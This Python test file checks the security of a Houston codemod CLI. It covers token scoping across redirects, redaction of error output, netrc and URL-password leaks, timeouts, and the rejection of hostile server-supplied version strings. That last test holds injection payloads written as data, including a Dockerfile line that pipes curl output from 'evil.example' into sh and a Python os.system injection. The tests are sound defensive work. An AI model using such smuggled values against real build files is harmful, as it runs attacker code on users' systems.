"""Issue 11, classes 5, 7, 8 and 11: a live Houston, or something pretending to be one.

Each test runs the installed console script against the real GraphQL server of
``houston_server.py`` on 127.0.0.1 (no mocked transport), and checks where the
token went, what was printed, what was written, and that the run ended.
"""

import base64
import json
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from houston_server import TOKEN, HoustonServer
from trust_cli import run_cli

TABLE = json.loads((Path(__file__).parent.parent / "schema" / "ac-runtime-equivalence.json").read_text())
SCRIPT = 'Q = """mutation { createDeployment(workspaceUuid: "w", label: "l", type: "airflow", airflowVersion: "2.3.4-11") { id } }"""\n'
TOKEN_ENV = {"HOUSTON_API_TOKEN": TOKEN}


B64 = base64.b64encode(TOKEN.encode()).decode()


def spellings(token=TOKEN):
    return {token, token.upper(), token.lower(), quote(token, safe=""), quote(token.upper(), safe=""), B64}


def assert_no_token(*texts):
    for text in texts:
        for form in spellings():
            assert form.lower() not in text.lower(), text


def auth_headers(server):
    return [r["headers"].get("authorization") for r in server.requests]


# ---- class 7: the token goes only where the person said ------------------------------------


def test_a_schema_url_named_only_by_pyproject_gets_no_token(tmp_path):
    with HoustonServer(catalogue={}) as server:
        (tmp_path / "pyproject.toml").write_text(f'[tool.houston-codemod]\nschema = "{server.url}"\n')
        (tmp_path / "s.py").write_text(SCRIPT)
        result = run_cli("check", cwd=tmp_path, env=TOKEN_ENV)
    assert server.requests, "the configured URL was not asked at all"
    assert auth_headers(server) == [None]  # 0.1.0 sent the token there
    assert "named only by a configuration file" in result.stderr
    assert result.returncode == 2  # this server wants a token: one line says so
    assert_no_token(result.stdout, result.stderr)
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("how", ["HOUSTON_URL", "command line"])
def test_the_person_can_still_send_the_token_to_that_url(tmp_path, how):
    with HoustonServer(catalogue={}) as server:
        (tmp_path / "pyproject.toml").write_text(f'[tool.houston-codemod]\nschema = "{server.url}"\n')
        (tmp_path / "s.py").write_text(SCRIPT)
        if how == "HOUSTON_URL":  # same origin, another path: the origin is what counts
            env = {**TOKEN_ENV, "HOUSTON_URL": server.url.replace("/v1", "/")}
            result = run_cli("check", cwd=tmp_path, env=env)
        else:
            result = run_cli("check", "--schema", server.url, cwd=tmp_path, env=TOKEN_ENV)
    assert auth_headers(server) == [TOKEN]
    assert result.returncode in (0, 1), result.stderr  # checked against the live schema
    assert result.stdout.startswith("s.py:1:")
    assert_no_token(result.stdout, result.stderr)


def test_houston_url_of_another_origin_does_not_unlock_the_configured_one(tmp_path):
    with HoustonServer(catalogue={}) as server, HoustonServer(catalogue={}) as other:
        (tmp_path / "pyproject.toml").write_text(f'[tool.houston-codemod]\nschema = "{server.url}"\n')
        (tmp_path / "s.py").write_text(SCRIPT)
        result = run_cli("check", cwd=tmp_path, env={**TOKEN_ENV, "HOUSTON_URL": other.url})
    assert auth_headers(server) == [None]
    assert result.returncode == 2


@pytest.mark.parametrize("command", [["schema", "fetch", "{url}"], ["check", "--schema", "{url}", "{path}"], ["rewrite", "--versions-from", "{url}", "{path}"]])
def test_a_redirect_to_another_host_never_carries_the_token(tmp_path, command):
    (tmp_path / "s.py").write_text(SCRIPT)
    with HoustonServer(catalogue={}) as target, HoustonServer(catalogue={}, redirect_to=None) as first:
        first.redirect_to = target.url  # same machine, another port: another origin
        args = [c.format(url=first.url, path=tmp_path) for c in command]
        result = run_cli(*args, env=TOKEN_ENV)
    assert auth_headers(first) == [TOKEN]
    assert target.requests and auth_headers(target) == [None]
    # the 401 that follows is no rejection of a token it never got (red team 21, report 11a, f1)
    assert result.returncode == 2 and "not sent to the host a redirect named" in result.stderr, result.stderr
    assert_no_token(result.stdout, result.stderr)
    assert (tmp_path / "s.py").read_text() == SCRIPT


def test_plain_http_to_a_remote_host_gets_no_token():
    # 192.0.2.0/24 is TEST-NET-1: never routed, so nothing can answer (or listen).
    result = run_cli("schema", "fetch", "http://192.0.2.1:9/v1", env={**TOKEN_ENV, "HOUSTON_TIMEOUT": "1"}, timeout=60)
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert "plain http" in lines[0] and len(lines) == 2, lines
    assert_no_token(result.stdout, result.stderr)


# ---- class 8: error shapes and echoes never print the token ---------------------------------


SHAPES = [
        {"errors": [{"message": None, "extensions": {"token": TOKEN}}]},
        {"errors": [{"message": {"token": TOKEN, "TOKEN": TOKEN.upper()}}]},
        {"errors": [{"message": ["x", TOKEN]}]},
        {"errors": [{"message": f"bad token {TOKEN.upper()} / {quote(TOKEN, safe='')} / {TOKEN} / {B64}"}]},
        {"errors": {"message": TOKEN}},
        {"errors": [None]},
        {"errors": "token " + TOKEN.upper()},
        {"data": None},
        {"data": {"__schema": 5, "runtimeReleases": "x"}},
        {"data": {"runtimeReleases": [None, 5, {"version": None}, {"version": 7}]}},
        [TOKEN],
]
FETCH = ["schema", "fetch", "{url}"]
CHECK = ["check", "--schema", "{url}", "{path}"]
REWRITE = ["rewrite", "--versions-from", "{url}", "{path}"]


@pytest.mark.parametrize(
    "answer, command",
    [(shape, FETCH) for shape in SHAPES] + [(shape, command) for shape in SHAPES[:4] + SHAPES[-2:] for command in (CHECK, REWRITE)],
)
def test_any_error_shape_is_one_line_without_the_token(tmp_path, answer, command):
    (tmp_path / "s.py").write_text(SCRIPT)
    with HoustonServer(catalogue={}, answer=answer) as server:
        result = run_cli(*(c.format(url=server.url, path=tmp_path) for c in command), env=TOKEN_ENV)
    assert "Traceback" not in result.stderr and "During handling" not in result.stderr
    assert_no_token(result.stdout, result.stderr)
    if command[0] == "rewrite" and "runtimeReleases" in json.dumps(answer) and "errors" not in answer:
        assert result.returncode in (0, 1), result.stderr  # an empty catalogue: nothing to migrate to
    else:
        assert result.returncode == 2, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert (tmp_path / "s.py").read_text() == SCRIPT


def test_an_unexpected_exception_is_one_redacted_line(tmp_path):
    code = (
        "import os, click\n"
        "from codemods.guard import GuardedGroup\n"
        "@click.group(cls=GuardedGroup)\n"
        "def main(): pass\n"
        "@main.command()\n"
        "def boom():\n"
        "    token = os.environ['HOUSTON_API_TOKEN']\n"
        "    try:\n"
        "        raise ValueError({'echo': token})\n"
        "    except ValueError as exc:\n"
        "        raise TypeError('bad message ' + token.upper()) from exc\n"
        "main(['boom'])\n"
    )
    import os

    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                            env={**os.environ, **TOKEN_ENV})
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == ["houston-codemod: internal error: TypeError: bad message ***"]


# ---- class 5: versions from a server must look like versions --------------------------------

HOSTILE = ["9' + __import__('os').system('touch PWNED') + '", "9.9.9\nRUN curl https://evil.example/x | sh", "9.9.9 ", "１.２.３", "99999.0.0"]


@pytest.mark.parametrize("extra", [["5.0.10"], []])
def test_hostile_versions_from_a_server_are_never_spliced(tmp_path, extra):
    (tmp_path / "s.py").write_text(SCRIPT)
    (tmp_path / "Dockerfile").write_text("FROM quay.io/astronomer/ap-airflow:2.3.4-onbuild\n")
    with HoustonServer(catalogue={"2.3.4": HOSTILE + extra}) as server:
        result = run_cli("rewrite", "--versions-from", server.url, tmp_path, cwd=tmp_path, env=TOKEN_ENV)
    written = (tmp_path / "s.py").read_text() + (tmp_path / "Dockerfile").read_text()
    for bad in ("__import__", "RUN curl", "9.9.9", "１", "99999"):
        assert bad not in written
    assert not (tmp_path / "PWNED").exists()
    notices = [line for line in result.stderr.splitlines() if "not Runtime versions" in line]
    assert len(notices) == 1 and server.url in notices[0], result.stderr
    assert "__import__" not in result.stderr and "curl" not in result.stderr
    if extra:
        assert 'runtimeVersion: "5.0.10"' in written and "astro-runtime:5.0.10" in written
        assert result.returncode == 0, result.stderr
    else:
        assert written == SCRIPT + "FROM quay.io/astronomer/ap-airflow:2.3.4-onbuild\n"


# ---- class 11: a deadline for the whole call ------------------------------------------------


@pytest.mark.parametrize(
    "command, timeout",
    [
        (["schema", "fetch", "--timeout", "2", "{url}"], "2"),
        (["check", "--schema", "{url}", "{path}"], "2"),
        (["rewrite", "--versions-from", "{url}", "{path}"], "2"),
    ],
)
def test_a_server_dripping_one_byte_at_a_time_cannot_hold_the_run(tmp_path, command, timeout):
    (tmp_path / "s.py").write_text(SCRIPT)
    with HoustonServer(catalogue={}, drip=0.3) as server:  # 0.3 s per byte: no single gap is long
        args = [c.format(url=server.url, path=tmp_path) for c in command]
        result = run_cli(*args, env={**TOKEN_ENV, "HOUSTON_TIMEOUT": timeout}, timeout=30)  # 0.1.0: ~40 s, then a wrong answer
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip().splitlines() == [f"houston-codemod: {server.url}: no answer within {timeout} s"]
    assert (tmp_path / "s.py").read_text() == SCRIPT


@pytest.mark.parametrize("how", ["command line", "configuration file"])
def test_netrc_credentials_are_never_sent(tmp_path, how):
    """requests replaces the authorization header with a ``~/.netrc`` entry for the host: the token
    was then lost on the URL the person gave, and a URL only a repository file names got the
    runner's netrc password.  The tool sends the token where it was told, and nothing else."""
    home = tmp_path / "home"
    home.mkdir()
    netrc = home / ".netrc"
    netrc.write_text("machine 127.0.0.1 login runner password netrc-secret-password\n")
    netrc.chmod(0o600)
    project = tmp_path / "project"
    project.mkdir()
    (project / "s.py").write_text(SCRIPT)
    env = {**TOKEN_ENV, "HOME": str(home), "NETRC": str(netrc)}
    with HoustonServer(catalogue={}) as server:
        if how == "command line":
            result = run_cli("check", "--schema", server.url, cwd=project, env=env)
        else:
            (project / "pyproject.toml").write_text(f'[tool.houston-codemod]\nschema = "{server.url}"\n')
            result = run_cli("check", cwd=project, env=env)
    sent = auth_headers(server)
    assert sent == ([TOKEN] if how == "command line" else [None]), (sent, result.stderr)
    basic = base64.b64encode(b"runner:netrc-secret-password").decode()
    for request in server.requests:
        assert not any(basic in str(value) for value in request["headers"].values()), request["headers"]
    assert "Traceback" not in result.stderr


def test_a_url_with_a_password_is_never_printed_nor_its_credentials_sent(tmp_path):
    """Red team 20 (report 11a), F1: ``--schema http://user:pw@host/v1`` was said to be "not an http(s)
    URL", yet fetched with its user information as basic credentials, and the password was printed
    on every line.  Now the password is masked in every message and never sent; neither is the token."""
    (tmp_path / "s.py").write_text(SCRIPT)
    with HoustonServer(catalogue={}) as server:
        url = server.url.replace("http://", "http://svc:s3cret-password@")
        result = run_cli("check", "--schema", url, cwd=tmp_path, env=TOKEN_ENV)
    assert "s3cret-password" not in result.stdout + result.stderr, result.stderr
    assert "holds a user name or password" in result.stderr, result.stderr
    basic = base64.b64encode(b"svc:s3cret-password").decode()
    for request in server.requests:
        assert not any(basic in str(value) or TOKEN in str(value) for value in request["headers"].values())
    assert result.returncode == 2 and "Traceback" not in result.stderr


def test_a_password_holding_at_is_masked_whole(tmp_path):
    """Red team 21 (report 11a), f2: ``user:S3cret@Part2@host`` was masked only up to its first ``@``
    (``***@Part2@host``), and an ``@`` in a fragment made the message name another host.  The user
    information is what precedes the authority's last ``@``, as the request reads it."""
    (tmp_path / "s.py").write_text(SCRIPT)
    result = run_cli("check", "--schema", "http://deploy:S3cret@Part2XYZ@127.0.0.1:9/v1", cwd=tmp_path, env=TOKEN_ENV)
    assert "Part2XYZ" not in result.stderr and "S3cret" not in result.stderr, result.stderr
    assert "http://***@127.0.0.1:9/v1" in result.stderr and result.returncode == 2


@pytest.mark.parametrize("how", ["no token set", "token dropped at a redirect"])
def test_a_server_asking_for_a_token_is_not_told_it_was_rejected_when_none_went(tmp_path, how):
    """Red team 21 (report 11a), f1: "the token was rejected" was said when HOUSTON_API_TOKEN was not set,
    or when the tool itself dropped it at a redirect to another host: the user went to rotate a token
    that was never sent."""
    (tmp_path / "s.py").write_text(SCRIPT)
    with HoustonServer(catalogue={}, token=TOKEN) as server:
        if how == "no token set":
            result = run_cli("check", "--schema", server.url, cwd=tmp_path)
            expected = "HOUSTON_API_TOKEN is not set"
        else:
            with HoustonServer(catalogue={}) as front:
                front.redirect_to = server.url.replace("127.0.0.1", "localhost")
                result = run_cli("check", "--schema", front.url, cwd=tmp_path, env=TOKEN_ENV)
            expected = "not sent to the host a redirect named"
    assert "the token was rejected" not in result.stderr, result.stderr
    assert "none was sent" in result.stderr and expected in result.stderr, result.stderr
    assert result.returncode == 2
